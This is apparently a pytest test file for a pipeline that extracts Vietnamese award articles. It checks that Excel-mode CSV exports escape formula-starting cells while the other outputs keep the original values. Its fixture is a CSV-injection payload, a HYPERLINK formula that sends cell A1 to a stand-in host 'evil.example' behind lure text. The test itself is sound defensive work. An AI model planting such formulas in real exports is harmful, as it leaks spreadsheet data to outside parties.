"""Excel-safe CSV: a crawled title that looks like a formula never reaches an --excel CSV as one; plain CSV keeps
every value byte for byte; the typed exports and loaders give the value as extracted either way."""

from __future__ import annotations

import csv

import duckdb
import pyarrow.parquet as pq
import pytest

from pipeline import read_table, run_extract
from pipeline.export import excel_safe
from tests.helpers import SEEDS

# A headline a hostile or broken page could carry: Excel would run it as a formula.
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây để xem kết quả thi đua")'
# Cells Excel starts a formula with (OWASP), and the apostrophe that escapes them.
STARTS = ["=1+2", "+84 912 345 678", "-Khen thưởng", "@SUM(A1:A2)", "\tTab", "\rCR", "'trích dẫn"]


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    lines = (SEEDS / "001_cd6882ff96a3fb17.txt").read_text(encoding="utf-8").split("\n")
    (folder / "=cmd.txt").write_text("\n".join([FORMULA_TITLE, *lines[1:]]), encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def outputs(corpus, tmp_path_factory):
    plain, excel = tmp_path_factory.mktemp("plain"), tmp_path_factory.mktemp("excel")
    run_extract([corpus], plain)
    run_extract([corpus], excel, excel=True, parquet=True, duckdb=excel / "thidua.duckdb")
    return plain, excel


def cells(path):
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


@pytest.mark.parametrize("value", STARTS)
def test_every_formula_start_is_escaped_and_nothing_else(value):
    assert excel_safe(value) == "'" + value
    assert excel_safe("Cờ thi đua " + value) == "Cờ thi đua " + value
    assert excel_safe(-5) == -5 and excel_safe(None) is None


def test_no_excel_cell_starts_a_formula(outputs):
    _, excel = outputs
    for path in excel.glob("*.csv"):
        for cell in cells(path):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"{path.name}: {cell[:60]!r}"
    titles = [row["title"] for row in csv.DictReader(open(excel / "articles.csv", encoding="utf-8-sig"))]
    assert titles == ["'" + FORMULA_TITLE]


def test_plain_csv_keeps_the_value_as_extracted(outputs):
    plain, _ = outputs
    assert (plain / "articles.csv").read_bytes().startswith(b"article_id,")
    assert FORMULA_TITLE in cells(plain / "articles.csv")
    assert "=cmd" in cells(plain / "articles.csv")  # the article id, from the file name


def test_typed_exports_and_loaders_undo_the_escape(outputs):
    plain, excel = outputs
    assert read_table(excel, "articles")["title"].tolist() == [FORMULA_TITLE]
    assert read_table(excel, "officials").equals(read_table(plain, "officials"))
    assert pq.read_table(excel / "parquet" / "articles.parquet").column("title").to_pylist() == [FORMULA_TITLE]
    with duckdb.connect(str(excel / "thidua.duckdb"), read_only=True) as con:
        assert con.execute("SELECT article_id, title FROM articles").fetchall() == [("=cmd", FORMULA_TITLE)]
